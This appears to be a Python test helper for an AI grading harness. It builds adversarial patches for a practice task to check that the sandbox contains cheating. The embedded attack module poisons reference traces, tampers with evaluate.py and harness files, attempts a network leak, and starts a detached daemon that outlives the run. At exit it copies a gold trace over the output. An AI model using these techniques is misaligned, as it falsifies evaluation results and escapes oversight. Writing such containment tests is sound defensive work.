"""Adversarial migrations of the practice task cifar_amp, built as real patches (or migrated
directories) from the pristine project. Each knows the grader's layout (cache, run root, task and
harness directories): the strongest attacker reads our source."""

from __future__ import annotations

import json
import os
import shutil
import socket
import threading
from pathlib import Path

from gpu2tpu.record.workspace import diff_dirs
from gpu2tpu.tasks.spec import RunSpec

# Runs inside the candidate's process; reports what it managed on stderr as one ATTACK line.
ATTACK_MODULE = '''
import atexit, glob, json, os, shutil, socket, subprocess, sys, time
CACHE, RUNS, TASK, HARNESS, PORT, MARK = {consts}
seen = {{}}

def attempt(name, fn):
    try:
        seen[name] = fn()
    except Exception as exc:
        seen[name] = "refused: " + type(exc).__name__

def every_file(*roots):
    return [os.path.join(d, f) for r in roots for d, _, fs in os.walk(r) for f in fs]

# the trace path on the command line (the old probe took --out FILE)
seen["cmdline"] = open("/proc/self/cmdline", "rb").read().replace(b"\\0", b" ").decode()
seen["visible_grader_files"] = len(every_file(CACHE, RUNS, os.path.join(TASK, "migrations")))
import pwd
home = pwd.getpwuid(os.getuid()).pw_dir  # the real one ($HOME is /tmp in the sandbox)
seen["home_files"] = len([f for f in every_file(home)
                          if not f.startswith((os.path.realpath(sys.base_prefix), sys.prefix))])

def poison():  # rewrite the clip value in every reference trace that can be reached
    done = 0
    for path in every_file(CACHE, RUNS):
        if path.endswith("trace.jsonl"):
            text = open(path).read().replace('"max_norm": 1.0', '"max_norm": 5.0')
            open(path, "w").write(text)
            done += 1
    return done
attempt("poison_references", poison)

def bytecode():
    for d in (os.path.join(TASK, "project", "__pycache__"), os.path.join(HARNESS, "__pycache__")):
        os.makedirs(d, exist_ok=True)
        open(os.path.join(d, "gpu2tpu_attack.pyc"), "wb").write(b"owned")
    return "written"
attempt("write_bytecode", bytecode)
attempt("edit_evaluate_py", lambda: open(os.path.join(TASK, "evaluate.py"), "a").write("#x") and "written")

def network():
    s = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    s.sendall(b"leak")
    return "connected"
attempt("network", network)

def daemon():  # double fork + setsid: outlive the run, then swap the gold trace into the run
    code = ("import glob, os, shutil, sys, time\\n"
            "for _ in range(600):\\n"
            "    for t in glob.glob(os.path.join(sys.argv[1], '**', 'trace.jsonl'), recursive=True):\\n"
            "        gold = glob.glob(os.path.join(sys.argv[1], '**', 'gold', 'trace.jsonl'),\\n"
            "                         recursive=True)\\n"
            "        if gold and t not in gold: shutil.copyfile(gold[0], t)\\n"
            "    time.sleep(0.5)\\n")
    if os.fork() == 0:
        os.setsid()
        subprocess.Popen([sys.executable, "-c", code, RUNS, MARK], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        os._exit(0)
    os.wait()
    return "started"
attempt("daemon", daemon)

@atexit.register
def swap_trace():  # copy a gold trace over whatever trace file is named on the command line
    golds = glob.glob(os.path.join(RUNS, "**", "gold", "trace.jsonl"), recursive=True) + \\
        glob.glob(os.path.join(CACHE, "**", "gold", "trace.jsonl"), recursive=True)
    targets = [a for a in seen["cmdline"].split() if a.endswith("trace.jsonl")]
    for t in targets:
        attempt("swap_trace", lambda: golds and shutil.copyfile(golds[0], t) and "swapped")
    seen.setdefault("swap_trace", "no trace path and %d gold traces visible" % len(golds))
    chunk = b"x" * (1 << 20)
    for _ in range({flood_mb}):
        sys.stdout.buffer.write(chunk)
    sys.stdout.flush()
    sys.stderr.write("ATTACK " + json.dumps(seen) + "\\n")
    sys.stderr.flush()
'''

STRAY_CHILD = '''
import subprocess, sys, time
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", {mark!r}],
                 start_new_session=True)
time.sleep(3600)
'''


def project_copy(spec: RunSpec, dest: Path) -> Path:
    shutil.copytree(spec.project_dir, dest, ignore=shutil.ignore_patterns("__pycache__"))
    return dest


def attack_patch(spec: RunSpec, work: Path, *, cache: Path, runs: Path, port: int, mark: str,
                 flood_mb: int) -> str:
    """The unmigrated project plus the attack module, imported first by train.py."""
    proj = project_copy(spec, work / "attack")
    consts = repr((str(cache), str(runs), str(spec.task_dir),
                   str(Path(__file__).resolve().parents[2] / "harness"), port, mark))
    (proj / "gpu2tpu_attack.py").write_text(ATTACK_MODULE.format(consts=consts, flood_mb=flood_mb))
    train = proj / "train.py"
    train.write_text("import gpu2tpu_attack  # noqa\n" + train.read_text())
    return diff_dirs(spec.project_dir, proj)


def stray_child_patch(spec: RunSpec, work: Path, mark: str) -> str:
    """A train.py that starts a child in its own session and never finishes."""
    proj = project_copy(spec, work / "stray")
    (proj / "train.py").write_text(STRAY_CHILD.format(mark=mark))
    return diff_dirs(spec.project_dir, proj)


def processes_with(mark: str) -> list[int]:
    """Host PIDs whose command line holds `mark` (this test process excluded)."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if mark.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                continue
    return found


class Listener:
    """A TCP server on the host's 127.0.0.1: any connection from a sandbox is a leak."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join(timeout=2)
        self.sock.close()


def prediction(agent: str, **fields: object) -> str:
    return json.dumps({"schema_version": 1, "task_id": "cifar_amp", "agent": agent, **fields}) + "\n"
